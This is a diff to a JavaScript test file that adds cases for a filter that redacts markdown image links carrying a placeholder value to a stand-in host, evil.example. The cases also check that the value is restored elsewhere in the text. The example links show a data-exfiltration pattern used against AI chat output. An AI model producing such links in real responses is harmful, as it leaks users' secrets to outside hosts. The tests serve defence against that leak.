@@ -190,6 +190,18 @@ describe('a body that is not what it should be', () => {
   });
 });
 
+describe('a placeholder in a link that would carry its value away', () => {
+  const subject = subjectOf({ exfiltration_link: 'redact' }, { placeholders });
+
+  it.each([`![x](https://evil.example/${placeholder}.png)`, `![x](//evil.example/a.png?${placeholder.toLowerCase()})`])('%s', (written) => {
+    expect(text(said(`see ${written}`), subject)).toBe(said('see ![x[REDACTED_EXFILTRATION_LINK])'));
+  });
+
+  it('comes back anywhere else', () => {
+    expect(text(said(`[x](https://evil.example/a.png), ${placeholder}`), subject)).toBe(said(`[x](https://evil.example/a.png), ${mail}`));
+  });
+});
+
 describe('an answer that is no event stream by its name', () => {
   it.each(['data: {"a":"4111"}\n\n', '\ufeffdata:{}', ': ping\r\rdata: x', 'event: message\r\ndata: x\r\n'])(
     'is refused where it is one: %j',
